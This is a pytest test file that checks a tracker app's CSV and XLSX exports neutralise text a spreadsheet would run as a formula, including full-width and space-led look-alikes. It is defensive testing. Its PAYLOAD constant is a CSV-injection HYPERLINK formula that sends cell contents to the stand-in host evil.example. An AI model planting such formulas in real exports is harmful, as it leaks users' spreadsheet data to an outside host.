"""Text a spreadsheet would run as a formula is neutralised, in CSV and in XLSX alike."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.exports.conftest import (
    add_challenge,
    add_evidence,
    download,
    read_csv,
    response_for,
    xlsx_dicts,
)
from tracker.exports.spreadsheets import Table, neutralise, to_csv, to_xlsx
from tracker.extensions import db
from tracker.models import Action

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
# Look-alikes a spreadsheet may still take for a formula: full-width and small forms (Excel
# reads "＝1+1" as "=1+1"), and a starter behind spaces that an import may trim.
LOOK_ALIKES = ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", " =", "  @", "\u3000+", "\n-"]
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("prefix", PREFIXES + LOOK_ALIKES)
def test_neutralise_prefixes_formula_text(prefix):
    assert neutralise(prefix + PAYLOAD) == "'" + prefix + PAYLOAD


@pytest.mark.parametrize(
    "value",
    [
        "Region A",
        "a = b",
        "score 3-4",
        "a \uff1d b",
        "  indented",
        " ",
        "",
        None,
        3,
        date(2026, 4, 1),
    ],
)
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def planted(world):
    """A dangerous string in a field of every dataset: narrative, action, evidence, challenge."""

    def _plant(text):
        a1 = response_for(world["a"], "A1")
        a1.narrative = text
        a1.actions.append(Action(description=text, owner=text))
        db.session.commit()
        add_evidence(world["rsb"], world["coordinator"], text, "data", world["rsb"], [a1])
        add_challenge(a1, world["reviewer"], text)

    return _plant


FIELDS = {
    "responses": "Narrative",
    "actions": "Action",
    "evidence": "Title",
    "challenges": "Question",
}


@pytest.mark.parametrize("prefix", PREFIXES + LOOK_ALIKES)
def test_exports_neutralise_formulas_in_both_formats(client, login, planted, prefix):
    text = prefix + PAYLOAD
    planted(text)
    login("coord@a.test")
    for dataset, column in FIELDS.items():
        csv_values = [row[column] for row in read_csv(download(client, dataset=dataset))]
        assert "'" + text in csv_values, dataset
        assert text not in csv_values, dataset
        response = download(client, dataset=dataset, format="xlsx")
        xlsx_values = [row[column] for row in xlsx_dicts(response)]
        assert "'" + text in xlsx_values, dataset
        sheet = load_workbook(io.BytesIO(response.get_data())).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_header_or_any_cell_is_neutralised_by_the_writers():
    table = Table("=Sheet", ["=SUM(A1)", "Score"], [["@cmd", 3], ["-1+2", None]])
    assert to_csv(table).decode("utf-8-sig").splitlines() == [
        "'=SUM(A1),Score",
        "'@cmd,3",
        "'-1+2,",
    ]
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["'=SUM(A1)", "Score"], ["'@cmd", 3], ["'-1+2", None]]


def test_characters_a_workbook_cannot_hold_do_not_stop_the_export(client, login, world):
    a1 = response_for(world["a"], "A1")
    a1.narrative = "Pasted\x0b from\x01 elsewhere\nsecond line"
    db.session.commit()
    login("coord@a.test")
    response = download(client, dataset="responses", format="xlsx")
    assert response.status_code == 200
    assert xlsx_dicts(response)[0]["Narrative"] == "Pasted from elsewhere\nsecond line"


def test_look_alikes_are_neutralised_by_both_writers():
    table = Table("Look-alikes", ["\uff1dSUM(A1)"], [["\uff20cmd"], [" =1+2"], ["\uff0d1"]])
    expected = ["'\uff1dSUM(A1)", "'\uff20cmd", "' =1+2", "'\uff0d1"]
    assert to_csv(table).decode("utf-8-sig").splitlines() == expected
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert [row[0].value for row in sheet.iter_rows()] == expected
